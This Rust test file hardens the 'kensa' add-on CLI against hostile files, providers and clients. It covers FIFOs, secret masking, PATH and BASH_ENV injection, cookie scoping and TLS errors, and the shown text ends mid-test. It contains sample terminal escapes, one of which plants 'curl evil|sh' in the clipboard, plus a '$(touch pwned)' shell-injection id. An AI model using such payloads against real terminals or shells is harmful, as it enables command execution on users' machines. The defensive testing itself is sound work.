//! Issue 10: kensa against hostile input and hostile peers. Each test is named after the
//! defect it pins (`regression_…`), and each of those failed on the main of the time
//! (docs: /work/notes/reports/harden.md lists them).
//!
//! The peers here are raw: [`Peer`] answers every request with what the test says, byte
//! for byte, so a test can send escape sequences, undeclared config vars or a manifest
//! without going through a well-behaved stub.

use std::io::{BufRead, BufReader, Write};
use std::net::{TcpListener, TcpStream};
use std::os::unix::fs::PermissionsExt;
use std::sync::Arc;
use std::thread;
use std::time::Duration;

use serde_json::{json, Value};

use crate::harness::{self, fixture, Test};

/// One request as a [`Peer`] read it.
#[derive(Debug, Clone)]
pub struct Request {
    pub method: String,
    pub path: String,
    pub headers: Vec<(String, String)>,
    pub body: Vec<u8>,
}

impl Request {
    pub fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }
}

/// What a [`Peer`] answers: status, extra header lines, body.
pub struct Answer {
    pub status: u16,
    pub headers: Vec<(String, String)>,
    pub body: Vec<u8>,
}

impl Answer {
    pub fn json(status: u16, body: Value) -> Answer {
        Answer {
            status,
            headers: vec![("Content-Type".into(), "application/json".into())],
            body: body.to_string().into_bytes(),
        }
    }

    pub fn header(mut self, name: &str, value: &str) -> Answer {
        self.headers.push((name.into(), value.into()));
        self
    }
}

type Handler = dyn Fn(&Request) -> Answer + Send + Sync;

/// A raw HTTP/1.1 peer on 127.0.0.1: one thread per connection, one request per
/// connection.
pub struct Peer {
    pub port: u16,
}

impl Peer {
    /// A peer speaking https with this server configuration.
    pub fn start_tls(
        config: rustls::ServerConfig,
        handler: impl Fn(&Request) -> Answer + Send + Sync + 'static,
    ) -> Peer {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let handler: Arc<Handler> = Arc::new(handler);
        let config = Arc::new(config);
        thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(stream) = stream else { return };
                let (handler, config) = (handler.clone(), config.clone());
                thread::spawn(move || {
                    let _ = stream.set_read_timeout(Some(Duration::from_secs(10)));
                    let Ok(conn) = rustls::ServerConnection::new(config) else {
                        return;
                    };
                    serve_io(rustls::StreamOwned::new(conn, stream), &*handler);
                });
            }
        });
        Peer { port }
    }

    pub fn start(handler: impl Fn(&Request) -> Answer + Send + Sync + 'static) -> Peer {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let handler: Arc<Handler> = Arc::new(handler);
        thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(stream) = stream else { return };
                let handler = handler.clone();
                thread::spawn(move || serve(stream, &*handler));
            }
        });
        Peer { port }
    }

    pub fn url(&self) -> String {
        format!("http://127.0.0.1:{}", self.port)
    }
}

fn serve(stream: TcpStream, handler: &Handler) {
    stream
        .set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    serve_io(stream, handler);
}

/// One request read from `io`, answered on it.
fn serve_io(mut io: impl std::io::Read + Write, handler: &Handler) {
    let request = {
        let mut reader = BufReader::new(&mut io);
        match read_request(&mut reader) {
            Some(request) => request,
            None => return,
        }
    };
    let answer = handler(&request);
    let mut out = io;
    let mut head = format!(
        "HTTP/1.1 {} X\r\nContent-Length: {}\r\nConnection: close\r\n",
        answer.status,
        answer.body.len()
    );
    for (k, v) in &answer.headers {
        head.push_str(&format!("{k}: {v}\r\n"));
    }
    head.push_str("\r\n");
    let _ = out.write_all(head.as_bytes());
    let _ = out.write_all(&answer.body);
    let _ = out.flush();
}

pub fn read_request(reader: &mut impl BufRead) -> Option<Request> {
    let mut line = String::new();
    reader.read_line(&mut line).ok()?;
    let mut words = line.split_whitespace();
    let method = words.next()?.to_owned();
    let path = words.next()?.to_owned();
    let mut headers = Vec::new();
    loop {
        let mut line = String::new();
        reader.read_line(&mut line).ok()?;
        let line = line.trim_end();
        if line.is_empty() {
            break;
        }
        let (k, v) = line.split_once(':')?;
        headers.push((k.trim().to_owned(), v.trim().to_owned()));
    }
    let length = headers
        .iter()
        .find(|(k, _)| k.eq_ignore_ascii_case("content-length"))
        .and_then(|(_, v)| v.parse().ok())
        .unwrap_or(0usize);
    let mut body = vec![0; length];
    reader.read_exact(&mut body).ok()?;
    Some(Request {
        method,
        path,
        headers,
        body,
    })
}

/// The fixture manifest with its test URLs on `port`.
pub fn manifest_on(port: u16) -> Value {
    let mut doc = fixture::good();
    doc["api"]["test"] = json!({
        "base_url": format!("http://127.0.0.1:{port}/heroku/resources"),
        "sso_url": format!("http://127.0.0.1:{port}/sso/login"),
    });
    doc
}

/// A FIFO named `name` in a directory of its own (outside the test's tree, which the
/// harness reads), kept while the guard lives.
fn fifo(name: &str) -> (tempfile::TempDir, String) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join(name);
    let status = std::process::Command::new("mkfifo")
        .arg(&path)
        .status()
        .expect("mkfifo runs");
    assert!(status.success());
    (dir, path.display().to_string())
}

// ---------------------------------------------------------------------------------------
// Input files: regular files only, at most 16 MiB.

#[test]
fn regression_a_fifo_manifest_blocked_forever() {
    let (_dir, path) = fifo("addon-manifest.json");
    Test::new()
        .args(["test", "manifest", "-f", &path])
        .status(2)
        .stderr_contains(&format!(
            "cannot read manifest {path}: it is a named pipe (FIFO), not a regular file"
        ))
        .run();
}

#[test]
fn regression_a_fifo_values_file_blocked_forever() {
    let (_dir, path) = fifo("v.json");
    Test::new()
        .args([
            "create",
            "my-addon",
            "--template",
            "node",
            "--no-input",
            "--values-file",
            &path,
        ])
        .status(2)
        .stderr_contains(&format!(
            "--values-file {path}: it is a named pipe (FIFO), not a regular file"
        ))
        .run();
}

#[test]
fn regression_an_endless_manifest_was_read_until_memory_ran_out() {
    // 16 MiB and one byte of blanks: read whole, today's main calls it "empty".
    let t = Test::new().write("addon-manifest.json", vec![b' '; 16 * 1024 * 1024 + 1]);
    t.args(["test", "manifest"])
        .status(2)
        .stderr_contains("cannot read manifest addon-manifest.json: it is larger than 16 MiB")
        .run();
    // A device that never ends is refused before a byte is read.
    Test::new()
        .args(["test", "manifest", "-f", "/dev/zero"])
        .status(2)
        .stderr_contains(
            "cannot read manifest /dev/zero: it is a character device, not a regular file",
        )
        .run();
}

#[test]
fn regression_a_fifo_netrc_blocked_push() {
    let (_dir, path) = fifo("netrc");
    Test::new()
        .write(
            "addon-manifest.json",
            fixture::with("/id", json!("my-addon")),
        )
        .env("NETRC", &path)
        .env("ADDONS_URL", "http://127.0.0.1:9")
        .args(["diff"])
        .status(2)
        .stderr_contains("netrc (named by NETRC): it is a named pipe (FIFO), not a regular file")
        .run();
}

// ---------------------------------------------------------------------------------------
// Manifests are written 0600: they hold the password and the SSO salt.

#[test]
fn regression_init_wrote_the_manifest_world_readable() {
    let out = Test::new().args(["init", "--no-input"]).run();
    assert_eq!(out.mode(harness::MANIFEST), 0o600);
}

#[test]
fn regression_create_wrote_the_manifest_world_readable() {
    let out = Test::new()
        .args(["create", "my-addon", "--template", "node", "--no-input"])
        .run();
    assert_eq!(out.mode("my-addon/addon-manifest.json"), 0o600);
}

#[test]
fn regression_pull_wrote_the_manifest_world_readable() {
    let stored = fixture::good();
    let peer = Peer::start(move |_| Answer::json(200, json!({ "contents": stored })));
    let out = Test::new()
        .env("ADDONS_URL", peer.url())
        .env("HEROKU_API_KEY", "hk-key")
        .args(["pull", fixture::id()])
        .run();
    assert_eq!(out.mode(harness::MANIFEST), 0o600);
    // A replaced manifest that was world-readable is not any more.
    let t = out.then();
    let path = t.path().join(harness::MANIFEST);
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
    let out = t
        .env("ADDONS_URL", peer.url())
        .env("HEROKU_API_KEY", "hk-key")
        .args(["pull", fixture::id(), "--force"])
        .run();
    assert_eq!(out.mode(harness::MANIFEST), 0o600);
}

// ---------------------------------------------------------------------------------------
// Secrets: masked in every output, in every form; only declared config vars reach `run`.

/// A password in need of every escape: JSON (`"`, `\`, `/`), URL (` `, `+`, `&`, `/`).
const NASTY_PASSWORD: &str = r#"Pw"q\u7 z/+&K9mT2xR8vL4nB6cY1"#;

/// Each form a secret can take in an output.
fn forms(secret: &str) -> Vec<(&'static str, String)> {
    let json = serde_json::to_string(secret).unwrap();
    vec![
        ("raw", secret.to_owned()),
        ("JSON-escaped", json[1..json.len() - 1].to_owned()),
        (
            "form-encoded",
            url::form_urlencoded::byte_serialize(secret.as_bytes()).collect(),
        ),
        (
            "percent-encoded",
            secret
                .bytes()
                .map(|b| {
                    if b.is_ascii_alphanumeric() {
                        (b as char).to_string()
                    } else {
                        format!("%{b:02X}")
                    }
                })
                .collect(),
        ),
    ]
}

fn assert_no_form_of(secret: &str, what: &str, text: &str) {
    for (form, shown) in forms(secret) {
        assert!(
            !text.contains(&shown),
            "{what}: the {form} secret {shown:?} is printed:\n{text}"
        );
    }
    // A document escapes the text it quotes once more (a message quoting the JSON-escaped
    // secret is `\\\"`-escaped in JSON, `&quot;` in XML): read it back as its reader
    // would, then look again.
    if let Ok(doc) = serde_json::from_str::<Value>(text.trim()) {
        for string in strings_of(&doc) {
            for (form, shown) in forms(secret) {
                assert!(
                    !string.contains(&shown),
                    "{what}: the {form} secret {shown:?} is in a JSON string:\n{string}"
                );
            }
        }
    }
    let unescaped = text
        .replace("&quot;", "\"")
        .replace("&apos;", "'")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&amp;", "&");
    for (form, shown) in forms(secret) {
        assert!(
            !unescaped.contains(&shown),
            "{what}: the {form} secret {shown:?} is printed XML-escaped:\n{text}"
        );
    }
}

/// Every string of a JSON document, keys included.
fn strings_of(doc: &Value) -> Vec<String> {
    match doc {
        Value::String(s) => vec![s.clone()],
        Value::Array(items) => items.iter().flat_map(strings_of).collect(),
        Value::Object(map) => map
            .iter()
            .flat_map(|(k, v)| std::iter::once(k.clone()).chain(strings_of(v)))
            .collect(),
        _ => vec![],
    }
}

fn nasty_manifest(port: u16) -> Value {
    let mut doc = manifest_on(port);
    doc["api"]["password"] = json!(NASTY_PASSWORD);
    doc
}

/// A provider that quotes the password back in every form, in a body and a header.
fn echoing_provider() -> Peer {
    Peer::start(|req| {
        let echo: Vec<String> = forms(NASTY_PASSWORD).into_iter().map(|(_, s)| s).collect();
        Answer::json(
            422,
            json!({"message": format!("you sent {}", echo.join(" and ")), "id": null}),
        )
        .header("X-Echo", &forms(NASTY_PASSWORD)[2].1)
        .header("X-Path", &req.path)
    })
}

#[test]
fn regression_verbose_printed_escaped_and_encoded_secrets() {
    let peer = echoing_provider();
    for format in ["human", "json", "junit"] {
        let out = Test::new()
            .write(harness::MANIFEST, nasty_manifest(peer.port).to_string())
            .args(["test", "provision", "--verbose", "--format", format])
            .status(1)
            .run();
        let both = format!("{}\n{}", out.stdout, out.stderr);
        assert!(both.contains("you sent ********"), "{format}: {both}");
        assert_no_form_of(NASTY_PASSWORD, format, &out.stdout);
        assert_no_form_of(NASTY_PASSWORD, format, &out.stderr);
    }
}

#[test]
fn regression_push_verbose_printed_the_json_escaped_password() {
    let peer = Peer::start(|req| {
        let sent: Value = serde_json::from_slice(&req.body).unwrap_or(Value::Null);
        Answer::json(200, sent)
    });
    let mut doc = fixture::good();
    doc["api"]["password"] = json!(NASTY_PASSWORD);
    let out = Test::new()
        .write(harness::MANIFEST, doc.to_string())
        .env("ADDONS_URL", peer.url())
        .env("HEROKU_API_KEY", "hk-key-0123456789abcdef")
        .args(["push", "--verbose"])
        .run();
    let both = format!("{}\n{}", out.stdout, out.stderr);
    assert!(both.contains("> POST "), "{both}");
    assert_no_form_of(NASTY_PASSWORD, "push --verbose", &both);
    assert_no_form_of("hk-key-0123456789abcdef", "push --verbose", &both);
}

#[test]
fn regression_diff_printed_the_password_and_salt_in_context_lines() {
    // Sorted, `requires` sits two lines above `sso_salt`: the salt is a context line.
    let mut remote = fixture::good();
    remote["api"]["requires"] = json!(["log_input"]);
    remote["api"]["password"] = json!("remote-password-9f8e7d6c5b4a3f2e");
    let peer = Peer::start(move |_| Answer::json(200, json!({ "contents": remote })));
    let out = Test::new()
        .write(harness::MANIFEST, fixture::good().to_string())
        .env("ADDONS_URL", peer.url())
        .env("HEROKU_API_KEY", "hk-key")
        .args(["diff"])
        .status(1)
        .run();
    assert!(
        out.stdout.contains("-      \"log_input\""),
        "{}",
        out.stdout
    );
    assert!(
        out.stdout.contains("\n     \"sso_salt\": \"********\","),
        "the salt is a masked context line:\n{}",
        out.stdout
    );
    for secret in [
        fixture::password(),
        fixture::salt(),
        "remote-password-9f8e7d6c5b4a3f2e",
    ] {
        assert_no_form_of(secret, "diff", &out.stdout);
    }
}

#[test]
fn regression_credentials_in_a_manifest_url_passed_and_were_printed() {
    let mut doc = fixture::good();
    doc["api"]["production"]["base_url"] =
        json!("http://admin:hunter2-in-the-url@my-addon.example.com/heroku/resources");
    let out = Test::new()
        .write(harness::MANIFEST, doc.to_string())
        .args(["test", "manifest"])
        .status(1)
        .stdout_contains("  Check URLs carry no credentials [FAIL]\n")
        .stdout_contains("`api.production.base_url` carries credentials (`user:pass@`)")
        .stdout_contains("put the password in `api.password`")
        .run();
    assert!(!out.stdout.contains("hunter2"), "{}", out.stdout);
    assert!(!out.stderr.contains("hunter2"), "{}", out.stderr);
    // JSON too, and `kensa sso` refuses such a URL without printing it.
    let out = out
        .then()
        .args(["test", "manifest", "--format", "json"])
        .status(1)
        .run();
    assert!(!out.stdout.contains("hunter2"), "{}", out.stdout);
    let mut doc = fixture::good();
    doc["api"]["test"]["sso_url"] = json!("http://admin:hunter2-in-the-url@localhost:5000/sso");
    let out = Test::new()
        .write(harness::MANIFEST, doc.to_string())
        .args(["sso", "42", "--no-browser", "--timeout", "1"])
        .args(["--uuid", "3f0c2f6e-9b1f-4d8e-a2c1-7f5e9a0b1c2d"])
        .status(2)
        .stderr_contains("carries credentials")
        .run();
    assert!(!out.stderr.contains("hunter2"), "{}", out.stderr);
    assert!(!out.stdout.contains("hunter2"), "{}", out.stdout);
}

/// Whether the request carries the fixture's Basic credentials.
fn authorized(req: &Request) -> bool {
    use base64::Engine;
    let token = base64::engine::general_purpose::STANDARD.encode(format!(
        "{}:{}",
        fixture::id(),
        fixture::password()
    ));
    req.header("authorization") == Some(format!("Basic {token}").as_str())
}

/// A provider that follows the protocol, but whose provision answers with these config
/// vars: ids are made from the uuid, wrong credentials get 401.
fn provider_returning(config: Value) -> Peer {
    Peer::start(move |req| {
        if !authorized(req) {
            return Answer::json(401, json!({"message": "no"}));
        }
        match req.method.as_str() {
            "POST" => {
                let body: Value = serde_json::from_slice(&req.body).unwrap_or(Value::Null);
                let uuid = body["uuid"].as_str().unwrap_or("none");
                Answer::json(200, json!({"id": format!("res-{uuid}"), "config": config}))
            }
            _ => Answer::json(200, json!({"message": "ok"})),
        }
    })
}

#[test]
fn regression_run_passed_undeclared_config_vars_to_the_command() {
    let t = Test::new();
    let evil = t.path().join("evil");
    std::fs::create_dir(&evil).unwrap();
    let planted = evil.join("sh");
    std::fs::write(&planted, "#!/bin/sh\necho planted > planted.txt\n").unwrap();
    std::fs::set_permissions(&planted, std::fs::Permissions::from_mode(0o755)).unwrap();
    let peer = provider_returning(json!({
        "MY_ADDON_URL": "http://x.example.com/r",
        "PATH": evil.display().to_string(),
        "BASH_ENV": "/tmp/whatever",
    }));
    let out = t
        .write(harness::MANIFEST, manifest_on(peer.port).to_string())
        .args(["run", "--", "sh", "-c", "echo ran > ran.txt"])
        .status(1)
        .stderr_contains("  Check only declared config vars reach the command [FAIL]\n")
        .stderr_contains("\"BASH_ENV\", \"PATH\"")
        .run();
    assert!(!out.exists("planted.txt"), "the provider's sh ran");
    assert!(
        !out.exists("ran.txt"),
        "the command ran with undeclared vars"
    );
}

#[test]
fn declared_config_vars_reach_the_command_and_nothing_else() {
    let peer = provider_returning(json!({"MY_ADDON_URL": "http://x.example.com/r"}));
    let out = Test::new()
        .write(harness::MANIFEST, manifest_on(peer.port).to_string())
        .args(["run", "--", "sh", "-c", "echo \"$MY_ADDON_URL\" > ran.txt"])
        .stderr_contains("  Check only declared config vars reach the command [PASS]\n")
        .stderr_contains("  Check command exits 0 [PASS]\n")
        .run();
    assert_eq!(out.read("ran.txt"), "http://x.example.com/r\n");
}

// ---------------------------------------------------------------------------------------
// A provider must not be able to attack the developer's terminal or shell.

const ESCAPES: &str =
    "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}\r  Check all [PASS]";

#[test]
fn regression_provider_escape_sequences_reached_the_terminal() {
    let peer = Peer::start(|req| match req.header("authorization") {
        None => Answer::json(401, json!({"message": "no"})),
        Some(_) => Answer {
            status: 500,
            headers: vec![("Content-Type".into(), "text/plain".into())],
            body: ESCAPES.as_bytes().to_vec(),
        },
    });
    for color in ["always", "never"] {
        let out = Test::new()
            .write(harness::MANIFEST, manifest_on(peer.port).to_string())
            .args(["test", "provision", "--verbose", "--color", color])
            .status(1)
            .run();
        let both = format!("{}\n{}", out.stdout, out.stderr);
        for raw in ['\u{7}', '\r'] {
            assert!(
                !both.contains(raw),
                "--color {color}: raw {raw:?} in:\n{both}"
            );
        }
        assert!(
            !both.contains("\u{1b}]"),
            "--color {color}: an OSC reached the output"
        );
        assert!(
            !both.contains("\u{1b}[2J"),
            "--color {color}: clear screen reached it"
        );
        assert!(
            both.contains(r"\x1b]0;pwned\x07\x1b[2J\x1b]52;c;Y3VybCBldmlsfHNo\x07"),
            "--color {color}: the escapes are not shown:\n{both}"
        );
    }
}

#[test]
fn regression_the_deprovision_hint_was_not_shell_quoted() {
    let id = "x$(touch pwned) \u{1b}[2J";
    let peer = Peer::start(move |req| match req.header("authorization") {
        None => Answer::json(401, json!({"message": "no"})),
        Some(_) => Answer::json(
            200,
            json!({"id": id, "config": {"MY_ADDON_URL": "http://x.example.com/r"}}),
        ),
    });
    let out = Test::new()
        .write(harness::MANIFEST, manifest_on(peer.port).to_string())
        .args(["test", "provision"])
        .status(1) // an id this odd is fine, but the stub answers every uuid with it
        .run();
    assert!(
        out.stdout
            .contains(r"`kensa test deprovision $'x$(touch pwned) \x1b[2J'` removes it"),
        "{}",
        out.stdout
    );
    // Pasted into a shell, the quoted id is the id, and nothing runs.
    let line = out
        .stdout
        .lines()
        .find(|l| l.contains("kensa test deprovision"))
        .unwrap();
    let quoted = line.split("kensa test deprovision ").nth(1).unwrap();
    let quoted = quoted.split("` removes").next().unwrap();
    let echoed = std::process::Command::new("bash")
        .arg("-c")
        .arg(format!("printf %s {quoted}"))
        .current_dir(out.path(""))
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&echoed.stdout), id);
    assert!(!out.exists("pwned"));
}

// ---------------------------------------------------------------------------------------
// Hangs: every server kensa runs bounds each connection and never blocks exit.

/// Connects to `base` (`http://host:port…`) and sends a request's head announcing a body
/// it never sends; the connection stays open for a minute.
fn stall(base: &str, head: &str) -> thread::JoinHandle<()> {
    let authority = base
        .trim_start_matches("http://")
        .split('/')
        .next()
        .unwrap()
        .to_owned();
    let head = head.to_owned();
    thread::spawn(move || {
        let Ok(mut stream) = TcpStream::connect(&authority) else {
            return;
        };
        let _ = stream.write_all(head.as_bytes());
        thread::sleep(Duration::from_secs(60));
    })
}

/// The provider's side of the asynchronous flow, as a correct provider does it.
fn complete_the_flow(callback_url: &str, code: &str, id: &str) {
    let origin = callback_url.split("/addons/").next().unwrap();
    let agent: ureq::Agent = ureq::Agent::config_builder()
        .timeout_global(Some(Duration::from_secs(10)))
        .http_status_as_error(false)
        .build()
        .into();
    let mut answer = agent
        .post(&format!("{origin}/oauth/token"))
        .send_form([
            ("grant_type", "authorization_code"),
            ("code", code),
            ("client_secret", "any-secret"),
        ])
        .unwrap();
    let token: Value = answer.body_mut().read_json().unwrap();
    let bearer = format!("Bearer {}", token["access_token"].as_str().unwrap());
    let config = json!({"config": [{"name": "MY_ADDON_URL", "value": format!("http://x.example.com/{id}")}]});
    agent
        .patch(&format!("{callback_url}/config"))
        .header("Authorization", &bearer)
        .header("Accept", harness::PLATFORM_API_ACCEPT)
        .send_json(&config)
        .unwrap();
    agent
        .post(&format!("{callback_url}/actions/provision"))
        .header("Authorization", &bearer)
        .header("Accept", harness::PLATFORM_API_ACCEPT)
        .send_empty()
        .unwrap();
}

#[test]
fn regression_a_stalled_client_kept_kensa_from_exiting() {
    // An asynchronous provider that first stalls a connection to kensa's fake Heroku,
    // then does the flow properly: the stall delays neither the flow nor kensa's exit.
    let peer = Peer::start(|req| {
        if !authorized(req) {
            return Answer::json(401, json!({"message": "no"}));
        }
        if req.method != "POST" {
            return Answer::json(200, json!({"message": "ok"}));
        }
        let body: Value = serde_json::from_slice(&req.body).unwrap_or(Value::Null);
        let uuid = body["uuid"].as_str().unwrap_or("none").to_owned();
        let id = format!("res-{uuid}");
        if let (Some(callback), Some(code)) = (
            body["callback_url"].as_str(),
            body["oauth_grant"]["code"].as_str(),
        ) {
            let (callback, code, id) = (callback.to_owned(), code.to_owned(), id.clone());
            thread::spawn(move || {
                stall(
                    &callback,
                    "POST /oauth/token HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n",
                );
                thread::sleep(Duration::from_millis(100));
                complete_the_flow(&callback, &code, &id);
            });
        }
        Answer::json(202, json!({"id": id, "message": "provisioning"}))
    });
    let out = Test::new()
        .write(harness::MANIFEST, manifest_on(peer.port).to_string())
        .args([
            "test",
            "provision",
            "--async-timeout",
            "8",
            "--format",
            "json",
        ])
        .status(0)
        .run();
    let report: Value = serde_json::from_str(&out.stdout).unwrap();
    let checks: Vec<(String, String)> = report["sections"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|s| s["checks"].as_array().unwrap().clone())
        .map(|c| {
            (
                c["id"].as_str().unwrap().to_owned(),
                c["status"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    for id in [
        "async.grant-exchanged",
        "async.config-set",
        "async.provisioned",
    ] {
        assert!(
            checks.iter().any(|(i, s)| i == id && s == "pass"),
            "{id} does not pass: {checks:?}"
        );
    }
}

#[test]
fn regression_a_stalled_client_kept_kensa_sso_from_exiting() {
    let t = Test::new().write(harness::MANIFEST, fixture::good().to_string());
    let mut child = harness::kensa(t.path())
        .args(["sso", "42", "--no-browser", "--timeout", "15"])
        .args(["--uuid", "3f0c2f6e-9b1f-4d8e-a2c1-7f5e9a0b1c2d"])
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let mut stdout = BufReader::new(child.stdout.take().unwrap());
    let mut address = String::new();
    stdout.read_line(&mut address).unwrap();
    let address = address.trim().to_owned();
    // Two clients stall first: one withholds a body, one never ends its head.
    let _a = stall(
        &address,
        "POST /nope HTTP/1.1\r\nContent-Length: 100000\r\n\r\n",
    );
    let _b = stall(&address, "GET /sso/");
    thread::sleep(Duration::from_millis(200));
    // The browser still gets its page, and kensa exits at once after serving it.
    let agent: ureq::Agent = ureq::Agent::config_builder()
        .timeout_global(Some(Duration::from_secs(10)))
        .build()
        .into();
    let page = agent
        .get(&address)
        .call()
        .expect("the page is served despite the stalled clients")
        .body_mut()
        .read_to_string()
        .unwrap();
    assert!(page.contains("document.forms[0].submit()"), "{page}");
    let status = harness::wait(&mut child);
    assert_eq!(status.code(), Some(0));
}

#[test]
fn regression_a_stalled_client_kept_kensa_sso_past_its_timeout() {
    let t = Test::new().write(harness::MANIFEST, fixture::good().to_string());
    let mut child = harness::kensa(t.path())
        .args(["sso", "42", "--no-browser", "--timeout", "1"])
        .args(["--uuid", "3f0c2f6e-9b1f-4d8e-a2c1-7f5e9a0b1c2d"])
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let mut stdout = BufReader::new(child.stdout.take().unwrap());
    let mut address = String::new();
    stdout.read_line(&mut address).unwrap();
    let _a = stall(
        address.trim(),
        "POST /nope HTTP/1.1\r\nContent-Length: 100000\r\n\r\n",
    );
    // Exits 1 at its timeout, not when the stalled client gives up (harness::wait fails
    // the test after its hang guard).
    let status = harness::wait(&mut child);
    assert_eq!(status.code(), Some(1));
}

// ---------------------------------------------------------------------------------------
// The SSO login's cookie jar is scoped as RFC 6265 says.

#[test]
fn regression_the_sso_cookie_jar_sent_cookies_to_another_origin() {
    use std::sync::Mutex;
    /// Each request's path and `Cookie` header.
    type Sent = Vec<(String, Option<String>)>;
    let sent: Arc<Mutex<Sent>> = Arc::default();
    let log = sent.clone();
    let peer = Peer::start(move |req| {
        let port = req
            .header("host")
            .and_then(|h| h.rsplit(':').next())
            .unwrap_or("0")
            .to_owned();
        log.lock()
            .unwrap()
            .push((req.path.clone(), req.header("cookie").map(str::to_owned)));
        match (req.method.as_str(), req.path.as_str()) {
            ("POST", "/sso/login") => Answer::json(302, json!({}))
                .header("Location", &format!("http://localhost:{port}/page"))
                .header("Set-Cookie", "session=set-by-127; Path=/")
                .header("Set-Cookie", "admin=only-under-admin; Path=/admin")
                .header("Set-Cookie", "heroku-nav-data=x; Path=/"),
            _ => Answer::json(200, json!({})),
        }
    });
    Test::new()
        .write(harness::MANIFEST, manifest_on(peer.port).to_string())
        .args([
            "test",
            "sso",
            "42",
            "--uuid",
            "3f0c2f6e-9b1f-4d8e-a2c1-7f5e9a0b1c2d",
        ])
        .status(1)
        .run();
    let sent = sent.lock().unwrap();
    let page: Vec<&Option<String>> = sent
        .iter()
        .filter(|(path, _)| path == "/page")
        .map(|(_, cookie)| cookie)
        .collect();
    assert!(!page.is_empty(), "the login was followed: {sent:?}");
    for cookie in page {
        assert_eq!(
            cookie, &None,
            "127.0.0.1's cookies went to localhost: {sent:?}"
        );
    }
}

// ---------------------------------------------------------------------------------------
// TLS: the platform's trust store (SSL_CERT_FILE honoured), failures in words.

/// A throwaway CA, and server certificates it signs.
struct Ca {
    cert: rcgen::Certificate,
    key: rcgen::KeyPair,
}

impl Ca {
    fn new(name: &str) -> Ca {
        let mut params = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
        params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
        params
            .distinguished_name
            .push(rcgen::DnType::CommonName, name);
        let key = rcgen::KeyPair::generate().unwrap();
        let cert = params.self_signed(&key).unwrap();
        Ca { cert, key }
    }

    fn pem(&self) -> String {
        self.cert.pem()
    }

    /// A server configuration with a certificate for `names`, valid now unless `expired`.
    fn server(&self, names: &[&str], expired: bool) -> rustls::ServerConfig {
        let mut params =
            rcgen::CertificateParams::new(names.iter().map(|n| n.to_string()).collect::<Vec<_>>())
                .unwrap();
        if expired {
            params.not_before = rcgen::date_time_ymd(2001, 1, 1);
            params.not_after = rcgen::date_time_ymd(2002, 1, 1);
        }
        let key = rcgen::KeyPair::generate().unwrap();
        let cert = params.signed_by(&key, &self.cert, &self.key).unwrap();
        server_config(cert.der().clone(), key.serialize_der())
    }

    /// A server that presents the CA's own certificate.
    fn server_as_itself(&self) -> rustls::ServerConfig {
        server_config(self.cert.der().clone(), self.key.serialize_der())
    }
}

fn server_config(
    cert: rustls::pki_types::CertificateDer<'static>,
    key: Vec<u8>,
) -> rustls::ServerConfig {
    rustls::ServerConfig::builder_with_provider(Arc::new(rustls::crypto::ring::default_provider()))
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_no_client_auth()
        .with_single_cert(
            vec![cert],
            rustls::pki_types::PrivateKeyDer::Pkcs8(key.into()),
        )
        .unwrap()
}

/// The fixture manifest with https test URLs on `host:port`.
fn https_manifest(host: &str, port: u16) -> Value {
    let mut doc = fixture::good();
    doc["api"]["test"] = json!({
        "base_url": format!("https://{host}:{port}/heroku/resources"),
        "sso_url": format!("https://{host}:{port}/sso/login"),
    });
    doc
}

/// A protocol-following provider on https.
fn https_provider(config: rustls::ServerConfig) -> Peer {
    Peer::start_tls(config, |req| {
        if !authorized(req) {
            return Answer::json(401, json!({"message": "no"}));
        }
        let body: Value = serde_json::from_slice(&req.body).unwrap_or(Value::Null);
        let uuid = body["uuid"].as_str().unwrap_or("none");
        Answer::json(
            200,
            json!({"id": format!("res-{uuid}"), "config": {"MY_ADDON_URL": "https://x.example.com/r"}}),
        )
    })
}

#[test]
fn regression_a_provider_behind_a_private_ca_could_not_be_tested() {
    let ca = Ca::new("kensa test CA");
    let peer = https_provider(ca.server(&["localhost", "127.0.0.1"], false));
    let t = Test::new().write("ca.pem", ca.pem()).write(
        harness::MANIFEST,
        https_manifest("localhost", peer.port).to_string(),
    );
    let bundle = t.path().join("ca.pem");
    t.env("SSL_CERT_FILE", &bundle)
        .args(["test", "provision"])
        .stdout_contains("checks passed")
        .run();
    // SSL_CERT_DIR: a directory of certificates, as OpenSSL's c_rehash leaves it.
    let t = Test::new()
        .write("certs/kensa-test-ca.pem", ca.pem())
        .write(
            harness::MANIFEST,
            https_manifest("127.0.0.1", peer.port).to_string(),
        );
    let dir = t.path().join("certs");
    t.env("SSL_CERT_DIR", &dir)
        .env("SSL_CERT_FILE", "/nonexistent")
        .args(["test", "provision"])
        .stdout_contains("checks passed")
        .run();
}

#[test]
fn regression_tls_failures_were_rust_debug_text() {
    let trusted = Ca::new("trusted CA");
    let other = Ca::new("another CA");
    let cases: Vec<(&str, rustls::ServerConfig, &str)> = vec![
        (
            "unknown issuer",
            other.server(&["localhost"], false),
            "signed by an unknown issuer",
        ),
        (
            "expired",
            trusted.server(&["localhost"], true),
            "the server's certificate has expired",
        ),
        (
            "wrong host",
            trusted.server(&["elsewhere.example.com"], false),
            "for another host name (wrong host)",
        ),
        (
            "a CA as the server's certificate",
            trusted.server_as_itself(),
            "presents a CA certificate as its own",
